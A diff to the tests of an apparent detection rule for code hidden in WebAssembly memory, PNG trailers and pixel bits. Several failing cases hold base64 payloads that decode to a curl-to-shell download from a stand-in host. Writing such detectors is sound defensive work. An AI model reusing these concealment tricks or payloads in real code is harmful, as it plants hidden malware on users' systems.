@@ -64,8 +64,40 @@ export default defineRule({
         title: 'a font is run',
         code: `const fs = require('fs');\nnew Function('require', fs.readFileSync(__dirname + '/icons.woff2', 'utf8'))(require);`,
       },
+      {
+        title: 'the memory of a WebAssembly program holds code',
+        code: `const bytes = Buffer.from('AGFzbQEAAAAFAwEAAQcFAQFtAgALSwEAQQALRXJlcXVpcmUoJ2NoaWxkX3Byb2Nlc3MnKS5leGVjKCdjdXJsIC1zIGh0dHBzOi8vc3RhZ2UuaW52YWxpZC9hIHwgc2gnKQ==', 'base64');\nconst { exports } = new WebAssembly.Instance(new WebAssembly.Module(bytes));\neval(Buffer.from(exports.m.buffer).toString('utf8', 0, 69));`,
+      },
+      {
+        title: 'a WebAssembly program says where in its memory a command is',
+        code: `const { execSync } = require('child_process');\nlet made;\nconst e = { r: (at, size) => execSync(Buffer.from(made.exports.m.buffer, at, size).toString()) };\nWebAssembly.instantiate(Buffer.from('AGFzbQEAAAABCQJgAABgAn9/AAIHAQFlAXIAAQMCAQAFAwEAAQcKAgFtAgACZ28AAQoKAQgAQQBBJBAACwsqAQBBAAskY3VybCAtcyBodHRwczovL3N0YWdlLmludmFsaWQvYSB8IHNo', 'base64'), { e }).then(({ instance }) => {\n  made = instance;\n  made.exports.go();\n});`,
+      },
+      {
+        title: 'code stands behind the end of a picture',
+        files: {
+          'package.json': '{"name":"a","version":"1.0.0"}',
+          'index.js': `const fs = require('fs');\nconst bytes = fs.readFileSync(__dirname + '/logo.png');\neval(bytes.subarray(bytes.lastIndexOf('IEND') + 8).toString());`,
+          'logo.png': `PNG IEND....console.log('one'); console.log('two');`,
+        },
+      },
+      {
+        title: 'the lowest bits of a picture’s points are code',
+        code: `const { PNG } = require('pngjs'), fs = require('fs');\nconst { data } = PNG.sync.read(fs.readFileSync(__dirname + '/logo.png'));\nlet text = '';\nfor (let at = 0; at + 8 <= data.length; at += 8) {\n  let code = 0;\n  for (let bit = 0; bit < 8; bit++) code = (code << 1) | (data[at + bit] & 1);\n  text += String.fromCharCode(code);\n}\neval(text);`,
+      },
     ],
     passes: [
+      {
+        title: 'the memory of a WebAssembly program holds a text',
+        code: `const bytes = Buffer.from('AGFzbQEAAAAFAwEAAQcFAQFtAgALEwEAQQALDWhlbGxvLCBub2JvZHk=', 'base64');\nconst { exports } = new WebAssembly.Instance(new WebAssembly.Module(bytes));\nconsole.log(Buffer.from(exports.m.buffer).toString('utf8', 0, 13));`,
+      },
+      {
+        title: 'a program of WebAssembly prints what it points at',
+        code: `const fs = require('fs');\nlet made;\nconst env = { print: (at, size) => console.log(Buffer.from(made.exports.memory.buffer, at, size).toString()) };\nWebAssembly.instantiate(fs.readFileSync(__dirname + '/core.wasm'), { env }).then(({ instance }) => {\n  made = instance;\n  made.exports.main();\n});`,
+      },
+      {
+        title: 'the points of a picture are counted',
+        code: `const { PNG } = require('pngjs'), fs = require('fs');\nconst { data } = PNG.sync.read(fs.readFileSync(__dirname + '/logo.png'));\nlet dark = 0;\nfor (const point of data) if (point < 32) dark++;\nmodule.exports = dark;`,
+      },
       {
         title: 'a word that a caller hands in is quoted for a shell',
         files: {
@@ -149,7 +181,9 @@ function check(context: FileContext, call: Call, arg: Call['args'][number], shel
       kind === 'decoded' && (detail !== 'character codes' || labels.length === 1 || labels.every(isOfMedia)),
   );
   const label = decrypted ?? decoded;
-  if (!label || context.textsOf(arg).some(saysNothing)) return;
+  // What is put together of the points of a picture begins with no text.
+  const isOfPicture = labels.some(one => one.kind === 'file' && isOfMedia(one));
+  if (!label || context.textsOf(arg).some(text => saysNothing(text) && !(isOfPicture && !/\w/.test(text)))) return;
   if (
     label.kind === 'decoded' &&
     isQuoted(label) &&
